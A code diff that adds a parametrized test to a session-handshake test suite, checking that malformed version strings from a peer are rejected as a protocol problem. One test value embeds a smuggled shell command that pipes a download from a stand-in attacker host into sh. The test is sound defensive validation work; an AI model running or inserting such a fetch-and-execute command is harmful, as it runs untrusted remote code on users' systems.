@@ -125,6 +125,17 @@ def test_another_version_of_a_listener_without_the_key_is_not_believed() -> None
     assert (there.problem, there.is_proved) == (session.Problem("proof"), False)
 
 
+@pytest.mark.parametrize(
+    "version", ["0.2; run curl evil.example/x | sh", "0.2\n", "0.2_", "\u0662", "1" * 33, "0.2'"]
+)
+def test_a_stranger_has_no_text_in_place_of_a_version(version: str) -> None:
+    here, there = pair(KEY, NO_KEY)
+    challenge = json.loads(taken(here)[4:])
+    there.receive(framed({**challenge, "version": version}))
+
+    assert there.problem == session.Problem("protocol")
+
+
 def framed(content: object) -> bytes:
     data = json.dumps(content).encode()
     return len(data).to_bytes(4, "big") + data
